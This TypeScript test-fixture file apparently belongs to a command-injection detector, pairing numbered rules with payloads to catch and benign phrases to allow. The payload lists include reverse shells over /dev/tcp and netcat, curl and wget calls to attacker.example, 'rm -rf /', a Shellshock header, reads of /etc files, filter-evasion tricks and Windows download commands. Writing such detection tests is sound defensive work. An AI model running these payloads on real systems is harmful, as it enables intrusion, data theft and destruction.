import type { Cases } from './cases.ts'

export const command: Cases = {
  4731200: {
    finds: [
      '; whoami',
      '| curl http://attacker.example/x',
      '&& wget attacker.example/a',
      '$(uname -a',
      'x;nslookup attacker.example',
      '| bash -i',
    ],
    passes: [
      'I heard a noise; ping me tomorrow',
      'data:image/png;base64,iVBORw0KGgo=',
      'tools | bash | zsh scripting',
      'Ann <a@x.example>; curl <b@x.example>',
      'Use perl; python is fine too',
    ],
  },
  4731201: {
    finds: [';id', '|id|', '; ls -la /tmp', '&& id', '| ls /etc', '$(id)'],
    passes: ['| id | name |', 'a; who is it?', 'set; go!', 'x&id=5', 'cats & dogs; ls 300 lexus'],
  },
  4731202: {
    finds: ['; cat /etc/x', '| nc -e /bin/sh 1.2.3.4', '&& rm -rf x', '; sleep 10', '| grep -r x', '; echo $HOME'],
    passes: [
      'find the keys; type the code',
      'salt; more pepper',
      'time; sleep 8 hours',
      'a | more options | b',
      'rest; touch nothing',
    ],
  },
  4731203: {
    finds: ['/bin/cat /x', '|/usr/bin/id', '/bin/sh -c ls', ';/bin/bash', '/usr/bin/python -c'],
    passes: [
      '#!/bin/bash',
      '/bin/sh',
      'the /usr/bin folder',
      '/usr/local/bin/docker-entrypoint.sh',
      'see bin/catalogue',
    ],
  },
  4731204: {
    finds: ['$(whoami)', '`id`', '$(curl http://x.example)', 'a`whoami`b', '||`ping x`'],
    passes: [
      'Use the `id` and `name` columns',
      '$(document).ready',
      '$(Build.ArtifactStagingDirectory)',
      'call `whoami` first, then go on',
      'text.`div`.exists()',
    ],
  },
  4731205: {
    finds: [
      'cat${IFS}/x',
      ';c\\at /x',
      ";w'h'o'am'i -x",
      '/???/cat /x',
      '{cat,/x}',
      'curl http://x.example/a | sh',
      'echo aWQ= | base64 -d',
      '$((41+1))',
    ],
    passes: ["L'artista dice", "rock 'n' roll", 'what?/why?', '{id,name,email}', 'echo chamber', 'a^b^c'],
  },
  4731206: {
    finds: [
      'bash -i >& /dev/tcp/1.2.3.4/5 0>&1',
      'nc -e /bin/sh 1.2.3.4 5',
      'python -c "import os"',
      "perl -e 'x'",
      'mkfifo /tmp/f',
      'php -r "x"',
    ],
    passes: ['nc 8000 controller', 'python 3 course', 'perl of wisdom', 'the /dev folder', 'bash away in the gym'],
  },
  4731207: {
    finds: [
      'cmd.exe /c dir',
      'powershell -enc AAAA',
      '& dir c:\\',
      'net user x /add',
      'Invoke-Expression x',
      'certutil -urlcache -f x',
      'IEX (x)',
    ],
    passes: [
      'press cmd + c',
      'powershell course',
      'type | description',
      'dir. Kubrick',
      'invoke an expression',
      'net user growth',
    ],
  },
  4731208: {
    finds: ['() { :; }; echo x', { headers: { 'User-Agent': '() { :;}; /bin/x' } }, '() { _; } x', '(){ x; }'],
    passes: ['const f = () => { return 1 }', 'function () { return 1 }', '() => {}', 'main() { x }'],
  },
  4731209: {
    finds: [
      'cat /etc/issue',
      'rm -rf /',
      'chmod 777 /tmp/x',
      'whoami',
      'ping -c 5 1.2.3.4',
      'tail /var/log/syslog',
      'echo x > /var/www/x',
    ],
    passes: ['cat food', 'who am I?', 'more etc.', 'head of /a/ department', 'sort of', 'ping me'],
  },
  4731210: {
    finds: ['x\nid\n', 'a\r\nwhoami', '\ncurl http://x.example', '1\n/usr/bin/id', '\\nls -l'],
    passes: [
      { json: 'Steps to reproduce:\nping the server\nwait' },
      { json: 'name,id\nfind,2\n' },
      { json: 'Dear Ann,\n\nid love to come.' },
      { json: 'Shopping\ncat food\n' },
    ],
  },
}
